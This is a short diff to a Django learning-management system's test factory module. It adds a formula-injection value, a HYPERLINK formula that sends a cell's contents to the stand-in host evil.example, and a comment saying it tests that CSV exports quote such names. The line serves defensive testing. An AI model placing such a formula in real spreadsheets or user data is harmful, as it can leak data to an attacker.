@@ -7,6 +7,8 @@ from django.contrib.auth.models import Group
 from lms.models import Institution, Role, Sponsor, User
 
 DEFAULT_PASSWORD = "correct-horse-battery-9"
+# A name a spreadsheet would run as a formula: every CSV export must write it quoted.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 
 
 class InstitutionFactory(factory.django.DjangoModelFactory):
